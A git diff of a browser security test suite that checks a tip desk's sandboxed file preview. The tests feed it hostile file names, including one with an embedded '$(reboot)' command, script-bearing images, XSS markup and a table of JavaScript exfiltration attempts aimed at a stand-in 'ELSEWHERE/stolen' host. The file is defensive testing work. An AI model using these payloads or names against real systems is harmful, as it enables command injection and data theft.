@@ -1,9 +1,12 @@
 """Files and names that want to do harm, each played to the end on the desk's page in Chromium."""
 
 import io
+import socket
+from contextlib import suppress
 
 import pytest
 from PIL import Image
+from playwright.sync_api import Error as PlaywrightError
 
 from tests import evidence_files as made
 from tests.admin.desk.files_live import faults, press, row_of, said, shown_frame
@@ -38,14 +41,15 @@ def watched(page):
 
 
 @pytest.fixture
-def show_file(page, show, sealed_tip, files_live):
-    """Show the page of a tip with one file."""
+def show_files(page, show, sealed_tip, files_live):
+    """Show the page of a tip with files: (data, name, type) each."""
 
-    def shown(data, name="photo.jpg", kind="image/jpeg"):
-        entry = put_file(files_live.app, data, name=name, type=kind, state="kept")
-        tip = with_files(sealed_tip, files_live.app, [entry])
-        show(tip)
-        return tip
+    def shown(*files):
+        entries = [
+            put_file(files_live.app, data, name=name, type=kind, state="kept")
+            for data, name, kind in files
+        ]
+        show(with_files(sealed_tip, files_live.app, entries))
 
     return shown
 
@@ -71,39 +75,41 @@ NOT_SHOWN = {
 }
 
 
-@pytest.mark.parametrize("data", NOT_SHOWN.values(), ids=NOT_SHOWN)
 @pytest.mark.parametrize("kind", ["image/jpeg", "video/mp4"])
 def test_what_is_no_picture_sound_or_film_never_gets_into_the_frame(
-    page, show_file, watched, files_live, data, kind
+    page, show_files, watched, files_live, kind
 ):
-    show_file(data(), kind=kind)
+    show_files(*((make(), name, kind) for name, make in NOT_SHOWN.items()))
 
-    press(page, 1, "看")
+    for number in range(1, len(NOT_SHOWN) + 1):
+        press(page, number, "看")
+        assert "只能存下" in said(page, number)
 
-    assert "只能存下" in said(page, 1)
     assert page.locator("iframe").count() == 0
     assert is_unharmed(page, watched, files_live)
 
 
-@pytest.mark.parametrize("kind", ["image/svg+xml", "text/html", "application/pdf", "text/plain"])
-def test_a_kind_that_could_hold_a_script_offers_no_look_at_all(page, show_file, kind):
-    show_file(made.svg(), name="x.svg", kind=kind)
+def test_a_kind_that_could_hold_a_script_offers_no_look_at_all(page, show_files):
+    kinds = ["image/svg+xml", "text/html", "application/pdf", "text/plain"]
+    show_files(*((made.svg(), "x.svg", kind) for kind in kinds))
 
-    assert row_of(page, 1).get_by_role("button", name="看").count() == 0
+    assert page.locator(".files__one").count() == len(kinds)
+    assert page.get_by_role("button", name="看", exact=True).count() == 0
 
 
 # Pictures that are a page or a script as well: drawn, and nothing but drawn.
 DRAWN = {
     "a JPEG with a page in it": (made.picture_with_page, "image/jpeg"),
+    "a GIF that is a script": (made.gif_with_script, "image/gif"),
     "a picture of plain kind": (made.png, "image/png"),
 }
 
 
 @pytest.mark.parametrize(("data", "kind"), DRAWN.values(), ids=DRAWN)
 def test_of_a_picture_with_a_script_in_it_only_the_pixels_come_through(
-    page, show_file, watched, files_live, data, kind
+    page, show_files, watched, files_live, data, kind
 ):
-    show_file(data(), kind=kind)
+    show_files((data(), "photo", kind))
 
     press(page, 1, "转出副本")
     page.wait_for_selector(".files__ask:focus")
@@ -119,7 +125,6 @@ def test_of_a_picture_with_a_script_in_it_only_the_pixels_come_through(
 
 UNDRAWABLE = {
     "more pixels than memory": (made.pixel_flood, "image/png", "太大"),
-    "a GIF that is a script": (made.gif_with_script, "image/gif", "只能存下"),
     "half a picture's head": (lambda: made.png()[:20], "image/png", "太大"),
     "half a film": (lambda: made.film_mp4()[:600], "video/mp4", "看不了"),
     "a film of noise": (lambda: b"\0\0\0\x20ftypisom" + b"x" * 9000, "video/mp4", "看不了"),
@@ -127,18 +132,19 @@ UNDRAWABLE = {
 
 
 @pytest.mark.skipif(not made.has_ffmpeg(), reason="ffmpeg is not installed")
-@pytest.mark.parametrize(("data", "kind", "sentence"), UNDRAWABLE.values(), ids=UNDRAWABLE)
+@pytest.mark.skipif(not made.has_ffmpeg(), reason="ffmpeg is not installed")
 def test_what_cannot_be_drawn_or_played_is_said_and_the_page_goes_on(
-    page, show_file, watched, files_live, data, kind, sentence
+    page, show_files, watched, files_live
 ):
-    show_file(data(), kind=kind)
+    show_files(*((make(), name, kind) for name, (make, kind, _said) in UNDRAWABLE.items()))
 
-    press(page, 1, "看")
+    for number, (_make, _kind, sentence) in enumerate(UNDRAWABLE.values(), start=1):
+        press(page, number, "看")
+        assert sentence in said(page, number)
+        assert row_of(page, number).get_by_role("button", name="存下").is_enabled()
 
-    assert sentence in said(page, 1)
     assert page.locator("iframe").count() == 0
     assert is_unharmed(page, watched, files_live)
-    assert row_of(page, 1).get_by_role("button", name="存下").is_enabled()
 
 
 ENDINGS_THAT_RUN = (".exe", ".html", ".htm", ".svg", ".js", ".lnk", ".bat", ".hta")
@@ -148,31 +154,32 @@ NAMES = made.BAD_NAMES | {
     "a program": "照片.jpg.exe",
     "a shortcut": "照片.lnk",
     "a command": "$(reboot).jpg",
-    "half a character": "a\ud800b.jpg",
 }
 
 
-@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
 def test_no_name_leaves_its_folder_turns_its_direction_or_starts_a_program(
-    page, show_file, watched, files_live, name
+    page, show_files, watched, files_live
 ):
-    # As a sender's own program writes it, whom no form stops.
-    show_file(made.png(), name=name or " ")
+    # As a sender's own program writes them, whom no form stops; an empty one is no entry of ours.
+    show_files(*((made.png(), name or " ", "image/png") for name in NAMES.values()))
 
-    shown = row_of(page, 1).locator(".files__name").inner_text()
-    press(page, 1, "存下")
-    with page.expect_download() as waiting:
-        press(page, 1, "知道了，存下")
-    offered = waiting.value.suggested_filename
-
-    for given in (shown, offered):
-        assert 0 < len(given) <= 124
-        assert not set(given) & set("/\\:*?\"<>|\0\r\n\u202e\u200b\ufeff$'")
-        assert not given.startswith((".", " "))
-        assert not given.lower().endswith(ENDINGS_THAT_RUN)
-        assert not given.upper().startswith("CON.")
+    for number in range(1, len(NAMES) + 1):
+        shown = row_of(page, number).locator(".files__name").inner_text()
+        press(page, number, "存下")
+        with page.expect_download() as waiting:
+            press(page, number, "知道了，存下")
+        for given in (shown, waiting.value.suggested_filename):
+            is_harmless(given)
     assert page.locator(".files__name script, .files__name img").count() == 0
     assert is_unharmed(page, watched, files_live)
+
+
+def is_harmless(name):
+    assert 0 < len(name) <= 124
+    assert not set(name) & set("/\\:*?\"<>|\0\r\n\u202e\u200b\ufeff$'")
+    assert not name.startswith((".", " "))
+    assert not name.lower().endswith(ENDINGS_THAT_RUN)
+    assert not name.upper().startswith("CON.")
 
 
 # Were a decoder's fault to run a stranger's program within the frame, it would try these.
@@ -188,27 +195,56 @@ ATTEMPTS = {
     "use another frame": "parent.frames[0].document.body.append('x') || parent.frames.x.y",
     "make a worker": "new Worker(URL.createObjectURL(new Blob(['1']))).x.y",
     "make markup": "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
-    "run a text": "eval('1')",
+    "run a text": "document.createElement('script').text = 'window.ran = 1'",
 }
+_TRY = "new Promise((yes, no) => {{ {}; setTimeout(no, 800); }})"
 SENDS = {
-    "fetch": "fetch('/desk/stolen').then(() => 'sent')",
-    "fetch from elsewhere": "fetch('http://127.0.0.1:9/stolen', {mode: 'no-cors'}).then(() => 'sent')",
-    "a picture": "new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('sent');"
-    " i.onerror = no; i.src = '/assets/lamp.svg?stolen'; })",
-    "a frame": "new Promise((yes, no) => { const f = document.createElement('iframe');"
-    " f.src = '/desk/stolen'; document.body.append(f); setTimeout(no, 800); })",
-    "a socket": "new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:9/stolen');"
-    " s.onopen = () => yes('sent'); s.onerror = no; })",
-    "events": "new Promise((yes, no) => { const s = new EventSource('/desk/stolen');"
-    " s.onopen = () => yes('sent'); s.onerror = no; })",
-    "a form": "new Promise((yes, no) => { const f = document.createElement('form');"
-    " f.action = '/desk/stolen'; document.body.append(f); f.submit(); setTimeout(no, 800); })",
-    "a window": "new Promise((yes, no) => window.open('/desk/stolen') ? yes('sent') : no())",
-    "its own address": "new Promise((yes, no) => { location.href = 'http://127.0.0.1:9/stolen';"
-    " setTimeout(no, 800); })",
-    "another page of the desk": "new Promise((yes, no) => { location.href = '/desk/stolen';"
-    " setTimeout(no, 800); })",
+    "fetch": "fetch('/desk/stolen')",
+    "fetch from elsewhere": "fetch('http://ELSEWHERE/stolen', {mode: 'no-cors'})",
+    "a picture": _TRY.format(
+        "const i = new Image(); i.onload = yes; i.src = 'http://ELSEWHERE/stolen'"
+    ),
+    "a frame": _TRY.format(
+        "const f = document.createElement('iframe'); f.onload = () => 0;"
+        "f.src = 'http://ELSEWHERE/stolen'; document.body.append(f)"
+    ),
+    "a socket": _TRY.format(
+        "const s = new WebSocket('ws://ELSEWHERE/stolen'); s.onopen = yes; s.onerror = no"
+    ),
+    "events": _TRY.format("const s = new EventSource('/desk/stolen'); s.onopen = yes"),
+    "a beacon": "Promise.reject(navigator.sendBeacon('http://ELSEWHERE/stolen', 'x'))",
+    "a form": _TRY.format(
+        "const f = document.createElement('form'); f.action = 'http://ELSEWHERE/stolen';"
+        "document.body.append(f); f.submit()"
+    ),
+    "a window": _TRY.format("if (window.open('http://ELSEWHERE/stolen')) yes()"),
+    "a link": _TRY.format(
+        "const a = document.createElement('a'); a.href = 'http://ELSEWHERE/stolen';"
+        "a.target = '_top'; document.body.append(a); a.click()"
+    ),
+    "its own address": _TRY.format("location.href = 'http://ELSEWHERE/stolen'"),
+    "another page of the desk": _TRY.format("location.href = '/desk/stolen'"),
 }
+
+
+@pytest.fixture
+def elsewhere():
+    """Another host's door, through which, at the end, not a byte has come.
+
+    Chromium opens a line to where a frame wants to go before it asks the policy whether it may
+    (seen with 156), and then sends nothing on it: that is let pass.
+    """
+    with socket.socket() as door:
+        door.bind(("127.0.0.1", 0))
+        door.listen()
+        door.settimeout(0.3)
+        yield "{}:{}".format(*door.getsockname())
+        with suppress(TimeoutError):
+            caller, _address = door.accept()
+            with caller:
+                caller.settimeout(0.5)
+                said_there = caller.recv(300)
+                assert said_there == b""
 
 
 @pytest.fixture(scope="module")
@@ -226,33 +262,38 @@ def drawn(member_page, files_live, sealed_tip):
     return ready
 
 
-@pytest.mark.parametrize("script", ATTEMPTS.values(), ids=ATTEMPTS)
-def test_a_program_within_the_frame_reaches_nothing_of_the_desk(drawn, member_page, script):
+def test_a_program_within_the_frame_reaches_nothing_of_the_desk(drawn, member_page):
     frame = drawn()
     before = member_page.url
 
-    found = frame.evaluate(
-        f"() => {{ try {{ return [{script}]; }} catch (error) {{ return error.name; }} }}"
-    )
+    reached = {}
+    for name, script in ATTEMPTS.items():
+        trial = f"() => {{ try {{ return [{script}]; }} catch (error) {{ return error.name; }} }}"
+        found = frame.evaluate(trial)
+        if found not in ("SecurityError", "TypeError"):
+            reached[name] = found
+    member_page.wait_for_timeout(300)
 
-    assert found in ("SecurityError", "TypeError", "EvalError")
-    member_page.wait_for_timeout(200)
+    assert reached == {}
     assert member_page.url == before
     assert member_page.evaluate("sessionStorage.getItem('dengshao.keyring').length") > 100
 
 
 @pytest.mark.parametrize("script", SENDS.values(), ids=SENDS)
 def test_a_program_within_the_frame_can_send_nothing_anywhere(
-    drawn, member_page, files_live, script
+    drawn, member_page, elsewhere, script
 ):
-    asked = []
     served = []
     member_page.on("requestfinished", lambda request: served.append(request.url))
     frame = drawn()
+    sending = script.replace("ELSEWHERE", elsewhere)
 
-    sent = frame.evaluate(f"() => ({script}).then(() => 'sent', () => 'stopped')")
+    # A frame that tries to go away is emptied by the browser: there is nothing left to ask.
+    with suppress(PlaywrightError):
+        sent = frame.evaluate(f"() => ({sending}).then(() => 'sent', () => 'stopped')")
+        assert sent == "stopped"
+    member_page.wait_for_timeout(300)
 
-    assert sent == "stopped"
     assert not [url for url in served if "stolen" in url]
     assert member_page.locator("#tip[data-opened]").count() == 1
 
